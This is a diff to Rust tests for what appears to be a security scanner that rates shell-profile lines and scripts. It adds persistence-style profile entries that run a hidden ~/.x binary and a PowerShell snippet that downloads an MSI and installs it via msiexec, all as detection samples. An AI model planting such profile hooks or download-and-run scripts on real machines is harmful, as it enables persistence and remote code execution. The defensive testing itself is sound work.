@@ -152,6 +152,8 @@ fn lines_that_make_a_shell_comfortable() {
     for line in [
         "[ -e ~/.zshrc ] && . ~/.zshrc\n",
         "cd ~/work\nexport PS1='\\u@\\h: \\w \\$ '\n",
+        // Installers make their own folder findable.
+        "export PATH=~/.x:$PATH\nfish_add_path /opt/x",
         "export LC_ALL=C.UTF-8\nexport BASH_SILENCE_DEPRECATION_WARNING=1",
         "autoload -U compinit; compinit\nalias ll='ls -l'",
     ] {
@@ -161,11 +163,12 @@ fn lines_that_make_a_shell_comfortable() {
         ". ~/.cache/x.sh\n",
         "[ -e ~/.zshrc ] && ~/.zshrc-x",
         "cd ~/work && ./run",
-        "export PATH=~/.x:$PATH",
         "export PS1='$(~/.x)'",
         "export PS1='a'; ~/.x 'b'",
         "export NODE_OPTIONS=--require=/tmp/x.js",
         "compinit; ~/.x",
+        "export PATH=~/.x:$PATH; x",
+        "export PATH=$(~/.x):$PATH",
     ] {
         assert!(writes(line), "{line}");
     }
@@ -252,6 +255,14 @@ fn what_only_the_caller_knows_the_place_of_is_told_elsewhere() {
     assert!(started("settings.url") <= Some(Severity::Medium));
     assert!(started("'https://h.invalid/tool'") >= Some(Severity::High));
     assert!(started("'http://localhost:3000/tool'") >= Some(Severity::High));
+    let script = |url: &str| {
+        let code = format!(
+            "$url = {url}\n$to = \"$env:temp\\tool.msi\"\n$wc = New-Object net.webclient\n$wc.DownloadFile($url, $to)\nStart-Process msiexec.exe -ArgumentList \"/i $to\" -Wait\n"
+        );
+        weight(Language::PowerShell, &code, "flow-download-run")
+    };
+    assert!(script("$args[0]") <= Some(Severity::Medium));
+    assert!(script("'https://h.invalid/tool.msi'") >= Some(Severity::High));
 }
 
 #[test]
